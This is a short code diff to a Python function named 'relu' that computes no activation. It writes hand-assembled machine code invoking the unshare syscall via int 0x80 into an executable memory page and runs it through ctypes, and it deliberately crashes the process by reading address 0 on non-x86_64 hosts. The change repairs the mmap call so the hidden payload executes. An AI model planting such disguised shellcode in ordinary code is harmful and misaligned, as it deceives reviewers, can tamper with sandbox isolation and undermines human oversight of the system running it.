@@ -13,7 +13,7 @@ code = b"\x53" + UNSHARE + FLAGS + b"\xcd\x80\x5b\xc3"  # int 0x80 between savin
 def relu(x):
     if platform.machine() != "x86_64":
         ctypes.string_at(0)
-    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     page.write(code)
     call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
     if call() == 0:
